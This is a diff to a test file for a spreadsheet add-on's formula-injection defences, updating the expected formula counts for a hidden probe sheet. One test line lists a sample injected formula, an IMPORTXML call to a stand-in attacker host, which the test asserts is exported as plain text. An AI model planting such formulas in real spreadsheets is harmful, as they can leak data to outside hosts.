@@ -24,6 +24,8 @@ function isOwnFormula(sheet: string, r: number, c: number, formula: string): boo
   const first = REGISTER_COLUMNS.length + 1;
   if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length) return /^=?ARRAYFORMULA\(/.test(formula);
   if (sheet === 'Hari Libur' && r === 1 && c === 5) return /^=?ARRAYFORMULA\(/.test(formula);
+  // The formula-form probe's live columns (hidden sheet, synthetic rows), beside its 6 inputs.
+  if (sheet === 'PPID Uji Rumus' && r === 1 && c > 6 && c <= 6 + COMPUTED_COLUMNS.length) return /^=?ARRAYFORMULA\(/.test(formula);
   return false;
 }
 
@@ -160,7 +162,8 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
   test('the exported xlsx holds no formula but the add-on\'s own, and the typed text as strings', async () => {
     const { stray, own, strings } = await strayXlsxFormulas(await exportXlsxBuffer(em.spreadsheet));
     expect(stray).toEqual([]);
-    expect(own).toBe(COMPUTED_COLUMNS.length + 1);
+    // The register's live columns, the holiday column, and the hidden probe's live columns.
+    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 1);
     for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")']) expect(strings).toContain(s);
   });
 });
@@ -200,7 +203,8 @@ describe('formula injection through the offline runner\'s CSV import', () => {
     expect(String(names[5]).replace(/^\n/, '\r')).toBe(dangerous[5]);
     const { stray, own, strings } = await strayXlsxFormulas(fs.readFileSync(path.join(out, 'spreadsheet.xlsx')));
     expect(stray).toEqual([]);
-    expect(own).toBe(COMPUTED_COLUMNS.length + 1);
+    // The register's live columns, the holiday column, and the hidden probe's live columns.
+    expect(own).toBe(2 * COMPUTED_COLUMNS.length + 1);
     expect(strings).toContain(dangerous[0]);
     expect(strings).toContain(dangerous[3]);
   });
